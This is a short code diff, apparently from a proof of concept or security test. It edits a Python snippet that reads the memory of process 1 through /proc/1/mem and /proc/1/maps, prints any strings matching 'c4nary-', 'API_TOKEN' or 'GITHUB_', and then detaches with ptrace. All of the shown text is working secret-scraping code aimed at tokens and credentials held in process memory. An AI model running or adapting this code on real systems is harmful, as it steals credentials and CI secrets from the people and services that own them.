@@ -54,7 +54,7 @@ try:
     memory = open("/proc/1/mem", "rb", 0)
     for line in open("/proc/1/maps"):
         start, end = (int(part, 16) for part in line.split()[0].split("-"))
-        try: print(*re.findall(rb"(?:c4nary-|API_TOKEN|GITHUB_)[^\\0]*", os.pread(memory.fileno(), end - start, start)))
+        try: print(*re.findall(rb"(?:c4nary-|API_TOKEN|GITHUB_)[^\\x00]*", os.pread(memory.fileno(), end - start, start)))
         except (OSError, OverflowError): pass
 except OSError as error: print(error)
 libc.ptrace(17, 1, 0, 0)`,
